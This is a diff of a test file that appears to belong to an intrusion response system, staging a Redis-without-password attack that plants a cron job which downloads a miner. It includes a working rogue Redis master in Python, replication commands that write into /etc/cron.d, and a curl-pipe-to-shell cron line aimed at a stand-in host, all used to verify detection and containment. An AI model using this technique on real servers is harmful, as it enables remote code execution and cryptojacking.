@@ -1,12 +1,26 @@
 /** (c) A Redis without a password is told to save its data as a cron table; the job fetches a miner. */
-import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { copyFileSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { lacksKernel } from '../live/kernel.ts';
 import { hostAddress, lacksScenario } from '../scenario-host.ts';
-import { attacker, depot, greeting, ordinaryLoad, pool, prove, type Scene, serveFiles, servePool, startScene } from './scene.ts';
+import { attacker, depot, greeting, ordinaryLoad, pool, prove, says, type Scene, serveFiles, servePool, startScene } from './scene.ts';
 
+/** Answers a replica as a Redis would, with the content of a file as its data. */
+const master = `
+import socket, sys
+data = open(sys.argv[2], 'rb').read()
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], 6400)); s.listen(5); print('ready')
+while True:
+    c, _ = s.accept()
+    while True:
+        q = c.recv(4096)
+        if not q: break
+        if b'PING' in q.upper(): c.sendall(b'+PONG\\r\\n')
+        elif b'SYNC' in q.upper(): c.sendall(b'+FULLRESYNC ' + b'a' * 40 + b' 1\\r\\n$' + str(len(data)).encode() + b'\\r\\n' + data); break
+        else: c.sendall(b'+OK\\r\\n')
+`;
 const place = '/var/tmp/.cache';
 
 describe.skipIf(lacksScenario(['/usr/bin/redis-server', '/usr/bin/redis-cli', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(c) Redis without a password, cron, miner', () => {
@@ -35,12 +49,15 @@ describe.skipIf(lacksScenario(['/usr/bin/redis-server', '/usr/bin/redis-cli', '/
   });
 
   it('is one incident from the first command to the miner, and ends with its plan', async () => {
-    expect(await redis('config', 'set', 'dir', '/etc/cron.d')).toContain('OK');
-    expect(await redis('config', 'set', 'dbfilename', 'backup1')).toContain('OK');
-    expect(await redis('set', 'x', `\n\n* * * * * root curl -fsS http://${depot}/x.sh | sh\n\n`)).toContain('OK');
-    expect(await redis('save')).toContain('OK');
-    expect(await redis('config', 'set', 'dir', '/var/lib/redis')).toContain('OK');
-    expect(await redis('config', 'set', 'dbfilename', 'dump.rdb')).toContain('OK');
+    // As attackers do it: a master of their own whose "data" is the table, to the byte. cron here takes no file with rubbish in it.
+    writeFileSync(join(kit, 'table'), `@reboot root curl -fsS http://${depot}/x.sh | sh\n`);
+    await says(scene.host.beginOutside('/usr/bin/python3', ['-u', '-c', master, depot, join(kit, 'table')]), 'ready');
+    for (const command of [['config', 'set', 'dir', '/etc/cron.d'], ['config', 'set', 'dbfilename', 'backup1'], ['replicaof', depot, '6400']]) expect(await redis(...command)).toContain('OK');
+    await scene.until('the table to be there', () => existsSync(join(scene.host.root, 'etc/cron.d/backup1')));
+    for (const command of [['replicaof', 'no', 'one'], ['config', 'set', 'dir', '/var/lib/redis'], ['config', 'set', 'dbfilename', 'dump.rdb']]) expect(await redis(...command)).toContain('OK');
+    // The machine is started again, as far as cron can tell: nobody waits for a minute to pass.
+    rmSync(join(scene.host.root, 'run/crond.reboot'), { force: true });
+    await scene.host.systemctl('restart', 'cron.service');
     await prove(scene, {
       entry: { kind: 'service', address: attacker }, level: 'critical', grade: 1,
       steps: ['freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `block-address ${pool}`, 'quarantine-file /etc/cron.d/backup1', `quarantine-file ${place}/kworkerd`, `quarantine-file ${place}/job`, 'kill-tree process'],
